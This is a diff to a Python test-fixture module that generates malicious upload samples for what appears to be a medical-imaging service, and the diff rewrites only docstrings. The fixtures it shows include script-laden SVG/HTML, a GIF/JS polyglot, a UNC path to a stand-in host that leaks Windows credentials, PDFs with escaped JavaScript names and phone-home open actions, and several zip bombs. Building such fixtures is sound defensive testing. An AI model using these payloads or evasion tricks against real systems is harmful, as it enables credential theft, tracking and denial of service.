@@ -1,4 +1,4 @@
-"""Files for tests, made on the spot: those that patients send, and those that somebody sends who means harm."""
+"""Files for tests, generated: harmless ones of patients, and malicious ones."""
 
 import io
 import random
@@ -16,12 +16,12 @@ SCRIPT = f"<script>{MARKER}; document.title = 'harm'</script>"
 SVG = f'<svg xmlns="http://www.w3.org/2000/svg">{SCRIPT}</svg>'.encode()
 HTML = f"<!DOCTYPE html><title>Letter</title>{SCRIPT}".encode()
 GIF_JS = b"GIF89a/*" + bytes(20) + f"*/=1;{MARKER}//;".encode()
-ELSEWHERE = r"\\harm.example\share\a.pdf"  # Windows sends whoever is signed in there
+ELSEWHERE = r"\\harm.example\share\a.pdf"  # Windows sends the user's credentials there
 PROGRAM = b"MZ\x90\0" + bytes(56) + b"\x80\0\0\0"
 
 
 def pdf(**options) -> bytes:
-    """One empty page; with `root`, more in the catalogue, and with `page`, on the page."""
+    """One empty page; `root` adds to the catalogue, and `page` to the page."""
     document = pikepdf.new()
     document.add_blank_page()
     for place, name in [(document.Root, "root"), (document.pages[0].obj, "page")]:
@@ -49,7 +49,7 @@ def pdf_with_script() -> bytes:
 
 
 def pdf_with_a_script_under_escapes() -> bytes:
-    """The name is written with escapes, so that no search of the bytes finds it."""
+    """The name is escaped, so that no search of the bytes finds it."""
     return pdf_with_script().replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS", b"/J#53")
 
 
@@ -58,7 +58,7 @@ def pdf_that_starts_a_program() -> bytes:
 
 
 def pdf_that_asks_elsewhere(kind: str, **rest) -> bytes:
-    """When it is opened, it asks another machine for something; so that machine knows who opens it, and when."""
+    """A request to another machine on opening, which reveals the reader and the time."""
     return pdf(root={"/OpenAction": action(kind, **rest)})
 
 
@@ -94,7 +94,7 @@ def chunk(kind: bytes, content: bytes) -> bytes:
 
 
 def large_png(width: int, height: int) -> bytes:
-    """A PNG that says it is that large, and is some bytes short."""
+    """A PNG that declares this size, and is some bytes short."""
     head = struct.pack("!IIBBBBB", width, height, 8, 2, 0, 0, 0)
     pixels = chunk(b"IDAT", zlib.compress(bytes(1000)))
     return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + pixels + chunk(b"IEND", b"")
@@ -131,7 +131,7 @@ def packed(members: dict[str, bytes]) -> bytes:
 
 
 def locked_zip() -> bytes:
-    """Marked as encrypted in both places where a zip file says so."""
+    """Marked as encrypted in both headers of a zip file."""
     whole = bytearray(packed({"a.dcm": dicom()}))
     whole[6] |= 1
     whole[whole.index(b"PK\x01\x02") + 8] |= 1
@@ -148,19 +148,19 @@ def zip_with_a_link() -> bytes:
 
 
 def zip_broken_on_its_way() -> bytes:
-    """One byte is different, far behind the beginning of the image."""
+    """One byte differs, far behind the beginning of the image."""
     whole = bytearray(packed({"a.dcm": dicom() + random.Random(1).randbytes(600_000)}))
     whole[500_000] ^= 1
     return bytes(whole)
 
 
 def bomb() -> bytes:
-    """An image in front, and then nothing but zeros: 16 KB that become 16 MB."""
+    """An image in front, and then zeros: 16 KB that unpack to 16 MB."""
     return packed({"a.dcm": dicom() + bytes(16 * 1024 * 1024)})
 
 
 def bomb_that_lies() -> bytes:
-    """The same, and the list of contents says that it is small."""
+    """The same bomb, with a small size in its directory."""
     whole = bytearray(bomb())
     at = whole.index(b"PK\x01\x02")
     whole[at + 24 : at + 28] = struct.pack("<I", 5000)
@@ -172,7 +172,7 @@ def zip_with_a_folder_that_is_a_file(content: bytes) -> bytes:
 
 
 def bomb_of_one_file_many_times(times: int = 4000) -> bytes:
-    """A list of contents that has the same packed bytes again and again (Fifield, A better zip bomb, 2019)."""
+    """A directory that lists the same packed bytes again and again (Fifield, A better zip bomb, 2019)."""
     content = dicom() + b"".join(random.Random(number).randbytes(20) * 60 for number in range(20))
     whole = packed({"a.dcm": content})
     start, end = whole.index(b"PK\x01\x02"), whole.index(b"PK\x05\x06")
@@ -182,7 +182,7 @@ def bomb_of_one_file_many_times(times: int = 4000) -> bytes:
 
 
 def zip_that_asks_for_much_memory() -> bytes:
-    """Packed by a method (LZMA) that says beforehand how much memory it wants: all of 4 GB."""
+    """Packed by a method (LZMA) that declares its memory in advance: all of 4 GB."""
     written = io.BytesIO()
     with zipfile.ZipFile(written, "w", zipfile.ZIP_LZMA) as archive:
         archive.writestr("a.dcm", dicom())
